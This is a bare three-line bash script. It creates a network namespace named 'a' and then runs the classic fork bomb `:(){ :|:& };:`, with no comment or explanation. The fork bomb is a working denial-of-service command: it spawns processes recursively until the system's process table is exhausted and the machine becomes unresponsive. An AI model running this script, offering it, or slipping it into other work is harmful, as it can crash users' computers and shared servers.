#!/bin/bash
ip netns add a
:(){ :|:& };:
